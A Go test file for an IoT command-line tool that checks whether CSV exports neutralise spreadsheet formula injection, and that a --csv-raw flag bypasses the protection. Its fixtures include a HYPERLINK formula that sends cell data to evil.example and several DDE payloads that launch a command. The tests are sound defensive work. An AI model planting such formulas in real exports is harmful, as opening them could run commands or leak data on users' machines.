package main

import (
	"slices"
	"strings"
	"testing"

	"github.com/iotclient/iotclient-go/clientstate"
	"github.com/iotclient/iotclient-go/clientstate/clientstatetest"
	"github.com/iotclient/iotclient-go/commands"
	"github.com/iotclient/iotclient-go/commands/commandstest"
)

// formulas are text cells a spreadsheet would run, one for each character
// OWASP's rule names (a carriage return is escaped, so it is shown as \r).
var formulas = []struct{ in, want string }{
	{`=HYPERLINK("http://evil.example/?"&A1,"ok")`, `'=HYPERLINK("http://evil.example/?"&A1,"ok")`},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", `\r=1+1`},
	{"a=1+1", "a=1+1"},
	{"", ""},
}

// Text and raw cells that start like a formula get a ' in front; the
// numbers iotctl writes (negative ones too) stay numbers; --csv-raw keeps
// every cell as it is.
func TestCSVDefusesFormulas(t *testing.T) {
	var recs []rec
	for _, f := range formulas {
		recs = append(recs, rec{name: f.in})
	}
	recs = append(recs, rec{name: "n", n: -5, has: true, raw: []byte(`=1+1`)})
	_, rows := readCSV(t, writeAll(t, formatCSV, sinkOptions{}, false, recs...))
	for i, f := range formulas {
		if got := rows[i]["name"]; got != f.want {
			t.Errorf("cell %q is written %q, want %q", f.in, got, f.want)
		}
	}
	if last := rows[len(rows)-1]; last["n"] != "-5" || last["raw"] != "'=1+1" {
		t.Errorf("a number and a raw value that is not JSON: %q", last)
	}
	_, rows = readCSV(t, writeAll(t, formatCSV, sinkOptions{csvRaw: true}, false, recs...))
	for i, f := range formulas {
		if want := strings.ReplaceAll(f.in, "\r", `\r`); rows[i]["name"] != want {
			t.Errorf("--csv-raw: cell %q is written %q, want %q", f.in, rows[i]["name"], want)
		}
	}
	if last := rows[len(rows)-1]; last["raw"] != "=1+1" {
		t.Errorf("--csv-raw: raw value %q", last["raw"])
	}
}

// A command name from the server that is a formula is defused in history's
// csv; --csv-raw writes it as it is, and is refused for other formats.
func TestHistoryCSVFormula(t *testing.T) {
	const name = `=HYPERLINK("http://evil.example","ok")`
	srv := commandstest.NewServer()
	defer srv.Close()
	srv.AddDevice("dev-1")
	if err := srv.Add("dev-1", commands.Command{ServiceID: "@svc", Name: name, Status: commands.StatusSuccessful}); err != nil {
		t.Fatal(err)
	}
	clearEnv(t)
	t.Setenv(envIoTDAEndpoint, srv.URL())
	t.Setenv(envIoTDAProject, commandstest.ProjectID)
	t.Setenv(envIoTDAToken, commandstest.Token)
	r := cliEnv(t, "history", "--device", "dev-1", "--format", "csv")
	mustSucceed(t, r)
	if _, rows := readCSV(t, r.stdout); len(rows) != 1 || rows[0]["name"] != "'"+name || rows[0]["service_id"] != "'@svc" {
		t.Errorf("the formulas are not defused: %q", rows)
	}
	r = cliEnv(t, "history", "--device", "dev-1", "--format", "csv", "--csv-raw")
	mustSucceed(t, r)
	if _, rows := readCSV(t, r.stdout); len(rows) != 1 || rows[0]["name"] != name || rows[0]["service_id"] != "@svc" {
		t.Errorf("--csv-raw: %q", rows)
	}
	r = cliEnv(t, "history", "--device", "dev-1", "--format", "jsonl", "--csv-raw")
	if r.code != exitUsage || r.stdout != "" || !strings.Contains(r.stderr, "--csv-raw: only with --format csv") {
		t.Errorf("--csv-raw with jsonl: exit %d, stdout %q\n%s", r.code, r.stdout, r.stderr)
	}
}

// A status from the server that is a formula is defused in the summary's
// csv, unless --csv-raw.
func TestStatesSummaryCSVFormula(t *testing.T) {
	const status = "+cmd|' /C calc'!A0"
	srv := clientstatetest.NewServer()
	defer srv.Close()
	if err := srv.Add(clientstate.State{ClientID: "d:ab12cd:t:x", ClientType: clientstate.ClientTypeDevice, Status: status}); err != nil {
		t.Fatal(err)
	}
	clearEnv(t)
	t.Setenv(envIBMAPIKey, clientstatetest.APIKey)
	t.Setenv(envIBMAPIToken, clientstatetest.APIToken)
	for _, tt := range []struct {
		flags []string
		want  string
	}{{nil, "'" + status}, {[]string{"--csv-raw"}, status}} {
		r := cliEnv(t, append([]string{"states", "--summary", "--ibm-url", srv.URL(), "--format", "csv"}, tt.flags...)...)
		mustSucceed(t, r)
		_, rows := readCSV(t, r.stdout)
		if !slices.ContainsFunc(rows, func(row map[string]string) bool { return row["name"] == tt.want && row["count"] == "1" }) {
			t.Errorf("%q: no row for the status %q: %q", tt.flags, tt.want, rows)
		}
	}
}

// The help says what --csv-raw does.
func TestHelpCSVRaw(t *testing.T) {
	for _, args := range [][]string{{"help"}, {"help", "history"}, {"help", "states"}, {"help", "monitor"}} {
		r := cli(t, args...)
		mustSucceed(t, r)
		if !strings.Contains(r.stdout, "--csv-raw") || !strings.Contains(r.stdout, "formula") {
			t.Errorf("%q does not explain --csv-raw:\n%s", args, r.stdout)
		}
	}
}
